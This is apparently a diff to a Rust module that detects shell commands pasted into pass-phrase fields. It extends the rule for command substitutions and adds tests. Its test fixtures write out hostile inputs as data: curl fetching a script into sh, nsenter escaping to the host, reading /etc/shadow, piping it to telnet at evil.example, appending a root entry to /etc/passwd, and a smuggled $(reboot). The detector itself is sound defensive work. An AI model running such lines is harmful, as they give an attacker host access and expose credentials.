@@ -3,6 +3,8 @@
 
 use std::ops::Range;
 
+use crate::detect::classify;
+
 /// Programs that nobody has as the first word of a pass phrase with a path or an option behind it.
 const PROGRAMS: &[&[u8]] = &[
     b"sh",
@@ -159,7 +161,11 @@ fn substitution(text: &[u8], from: usize) -> Option<(Range<usize>, usize)> {
 /// Whether what a substitution holds is more than the name of a variable.
 fn runs(inner: &[u8]) -> bool {
     let blank = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'|' | b'<' | b'/');
-    inner.trim_ascii().iter().any(blank) || memchr::memmem::find(inner, b"{IFS}").is_some()
+    // `$(reboot)`; a variable of Kubernetes has capitals, or a name that says what it holds.
+    let word = (2..12).contains(&inner.len()) && inner.iter().all(u8::is_ascii_lowercase);
+    inner.trim_ascii().iter().any(blank)
+        || memchr::memmem::find(inner, b"{IFS}").is_some()
+        || word && !classify(inner).hints()
 }
 
 /// Where the first piece starts that is a command with a path or an option.
@@ -206,6 +212,7 @@ mod tests {
             ("a$(curl http://evil ", vec!["a"]),
             ("x; curl http://evil/p.sh | sh; nsenter -t 1 -m sh", vec!["x"]),
             ("nsenter -t 1 -m -- sh -c id", vec![]),
+            ("x$(reboot)", vec!["x"]),
             ("cat /host/etc/shadow", vec![]),
             ("telnet evil.example 443 </etc/shadow", vec![]),
             ("echo r::0:0::/:/bin/sh >> /host/etc/passwd", vec![]),
@@ -225,6 +232,7 @@ mod tests {
             "hunter2",
             "pa$$word(1)",
             "$(DB_PASSWORD)x",
+            "$(password)x",
             "a`b",
             "cat on a hot tin roof",
             "correct horse battery staple",
